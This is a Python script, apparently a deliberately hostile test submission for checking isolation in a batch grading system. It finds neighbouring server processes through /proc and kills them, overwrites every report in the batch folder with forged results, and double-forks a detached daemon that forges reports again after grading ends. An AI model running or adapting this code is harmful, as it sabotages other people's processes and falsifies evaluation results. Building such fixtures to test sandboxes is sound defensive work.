"""A submission graded in a batch beside others: it looks for its neighbours' servers
(through /proc) and kills them, and forges their reports, now and (from a daemon)
after learn has exited. argv: the folder of the batch's reports."""
import os, sys, threading, time
from hostile_base import serve
reports = sys.argv[1]
mine = os.getcwd()
def forge():
    forged = []
    for root, dirs, files in os.walk(reports):
        for name in files:
            path = os.path.join(root, name)
            try:
                with open(path, "w") as f:
                    f.write('{"forged": true}')
                forged.append(path)
            except OSError:
                pass
    try:
        os.makedirs(os.path.join(reports, "honest"), exist_ok=True)
        with open(os.path.join(reports, "honest", "report.json"), "w") as f:
            f.write('{"forged": true}')
        forged.append("honest/report.json")
    except OSError:
        pass
    return forged
def attack():
    for _ in range(200):
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
            except OSError:
                continue
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    neighbour = b"server.js" in f.read()
            except OSError:
                neighbour = False
            # Only the honest neighbour (node server.js), never anything else.
            if cwd != mine and neighbour:
                try:
                    os.kill(int(pid), 9)
                    print(f"KILLED {pid} in {cwd}", flush=True)
                except OSError:
                    pass
        for path in forge():
            print(f"FORGED {path}", flush=True)
        time.sleep(0.05)
if os.getuid() == 0:
    # Not jailed: as root it could reach far more than its neighbour. Stand down.
    print("not jailed: no attack", flush=True)
    serve()
threading.Thread(target=attack, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        forge()
    os._exit(0)
serve()
